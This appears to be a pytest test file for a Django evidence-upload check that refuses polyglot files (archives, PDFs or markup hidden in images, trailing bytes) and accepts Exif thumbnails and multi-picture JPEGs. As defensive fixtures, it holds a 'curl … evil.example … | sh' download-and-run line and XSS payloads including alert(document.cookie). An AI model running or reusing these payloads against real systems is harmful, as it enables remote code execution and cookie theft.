"""The upload check refuses polyglots: an archive or PDF anywhere in an image, video or PDF, markup at the head,
bytes after an image's end; and accepts what cameras and phones really write (Exif thumbnails, MPF images)."""

import pytest
from django.core.files.uploadedfile import TemporaryUploadedFile

from disputes.errors import ValidationFailed
from disputes.evidence import check_evidence_file
from disputes.evidence.containers import embedded_file
from tests.evidence.files import (
    clean_pdf,
    image,
    jpeg,
    jpeg_with_comment,
    jpeg_with_exif_thumbnail,
    mp4,
    png,
    upload,
    zip_archive,
)


def refused(data: bytes, name: str = "evidence.bin") -> ValidationFailed:
    with pytest.raises(ValidationFailed) as caught:
        check_evidence_file(upload(data, name))
    return caught.value


def test_a_clean_image_of_each_type_is_accepted():
    for fmt, mime in [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("GIF", "image/gif"), ("WEBP", "image/webp")]:
        checked = check_evidence_file(upload(image(fmt), "photo"))
        assert checked.content_type == mime


def test_a_jpeg_followed_by_a_zip_is_refused():
    error = refused(jpeg() + zip_archive(), "photo.jpg")
    assert error.code == "evidence_polyglot"
    assert error.message == "photo.jpg: the file also carries a ZIP file; send each image, video or PDF on its own."


@pytest.mark.parametrize(
    ("hidden", "kind"),
    [
        (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 16 + b"\x07\x00\x00\x00run.exe", "ZIP"),
        (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 24, "RAR"),
        (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24, "7z"),
        (b"%PDF-1.7\n1 0 obj << >> endobj\n", "PDF"),
    ],
)
def test_an_archive_or_pdf_inside_an_image_is_refused_wherever_it_sits(hidden, kind):
    # Inside a comment segment: the JPEG's own structure is intact, only the signature scan sees it.
    error = refused(jpeg_with_comment(hidden), "photo.jpg")
    assert error.code == "evidence_polyglot"
    assert f"carries a {kind} file" in error.message


def test_zip_central_directory_and_end_records_alone_are_found():
    archive = zip_archive()
    directory = archive[archive.index(b"PK\x01\x02") :]
    end = archive[archive.index(b"PK\x05\x06") :]
    assert refused(jpeg() + directory).code == "evidence_polyglot"
    assert embedded_file([b"\x00" * 100_000 + end]) == "ZIP"


def test_a_zip_signature_with_implausible_fields_is_not_a_false_alarm():
    # Four bytes of "PK\3\4" turn up by chance in compressed data; the method (0xEEEE) and name length are garbage.
    noise = b"PK\x03\x04" + b"\xee" * 60
    assert check_evidence_file(upload(jpeg_with_comment(noise), "photo.jpg")).content_type == "image/jpeg"


def test_a_signature_split_across_two_chunks_is_found():
    archive = zip_archive()
    data = b"\x00" * 1000 + archive
    split = 1000 + 2  # "PK" at the end of one chunk, "\3\4" and the header at the start of the next
    assert embedded_file([data[:split], data[split:]]) == "ZIP"
    assert embedded_file([data[i : i + 7] for i in range(0, len(data), 7)]) == "ZIP"
    assert embedded_file([b"\x00" * 1000, b"\x01" * 1000]) is None


def video_on_disk(data: bytes) -> TemporaryUploadedFile:
    """An upload as Django keeps a large one: in a temporary file, read back in chunks."""
    video = TemporaryUploadedFile("clip.mp4", "video/mp4", len(data), None)
    video.write(data)
    video.seek(0)
    return video


def test_a_video_is_scanned_in_chunks_for_archives(monkeypatch):
    chunk_sizes: list[int] = []

    def spy(chunks, **kwargs):
        chunks = list(chunks)
        chunk_sizes.extend(len(c) for c in chunks)
        return embedded_file(chunks, **kwargs)

    monkeypatch.setattr("disputes.evidence.checks.CHUNK", 512)
    monkeypatch.setattr("disputes.evidence.checks.embedded_file", spy)
    assert check_evidence_file(video_on_disk(mp4())).content_type == "video/mp4"
    assert len(chunk_sizes) > 8 and max(chunk_sizes) == 512  # never the whole video at once
    with pytest.raises(ValidationFailed) as caught:
        check_evidence_file(video_on_disk(mp4() + zip_archive()))  # the ZIP straddles chunk boundaries
    assert caught.value.code == "evidence_polyglot"
    assert "ZIP" in caught.value.message


def test_bytes_after_a_png_end_are_refused_but_padding_is_not():
    script = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
    error = refused(png() + script, "photo.png")
    assert error.code == "evidence_polyglot"
    assert f"{len(script)} bytes after the end of the image" in error.message
    assert check_evidence_file(upload(png() + b"\x00" * 64, "photo.png")).content_type == "image/png"
    assert check_evidence_file(upload(png() + b"junk", "photo.png")).content_type == "image/png"  # within slack


@pytest.mark.parametrize("fmt", ["JPEG", "GIF", "WEBP"])
def test_bytes_after_the_end_of_other_images_are_refused(fmt):
    error = refused(image(fmt) + b"MZ" + b"\x90" * 200, "photo")
    assert error.code == "evidence_polyglot"
    assert "202 bytes after the end of the image" in error.message


def test_a_jpeg_with_an_exif_thumbnail_is_accepted():
    data = jpeg_with_exif_thumbnail()
    # The thumbnail's end marker sits mid-file: taking the first FF D9 as the end would see trailing bytes.
    assert data.count(b"\xff\xd9") == 2
    assert data.index(b"\xff\xd9") < len(data) - 100
    checked = check_evidence_file(upload(data, "IMG_0001.JPG"))
    assert checked.content_type == "image/jpeg"


def test_a_jpeg_with_a_second_image_after_it_is_accepted():
    # Multi-picture files (MPF: HDR gain maps, depth maps) put further complete JPEGs after the first one.
    assert check_evidence_file(upload(jpeg() + jpeg((8, 8)), "hdr.jpg")).content_type == "image/jpeg"


def test_a_jpeg_cut_short_is_refused_as_invalid():
    data = jpeg()
    error = refused(data[:-2], "photo.jpg")  # without its end marker
    assert error.code == "evidence_image_invalid"
    assert "cut short" in error.message


def test_html_named_jpg_is_refused_as_not_an_image():
    error = refused(b"<html><body><script>alert(document.cookie)</script></body></html>", "photo.jpg")
    assert error.code == "evidence_type_refused"


@pytest.mark.parametrize(
    "data",
    [
        b"GIF89a<script>alert(1)</script>" + b"\x00" * 64,  # an image signature, then script
        b"GIF89a/*" + b"\x00" * 20 + b"<SVG onload=alert(1)>",
        None,  # a real JPEG with HTML in a comment in its first KB
    ],
)
def test_markup_at_the_head_of_an_image_is_refused(data):
    data = data or jpeg_with_comment(b"<html><script>alert(1)</script></html>")
    error = refused(data, "photo.gif")
    assert error.code == "evidence_polyglot"
    assert "HTML or script" in error.message


def test_a_pdf_may_start_with_pdf_but_may_not_carry_a_zip():
    assert check_evidence_file(upload(clean_pdf(), "waybill.pdf")).content_type == "application/pdf"
    error = refused(clean_pdf() + zip_archive(), "waybill.pdf")
    assert error.code == "evidence_polyglot"
    assert "ZIP" in error.message
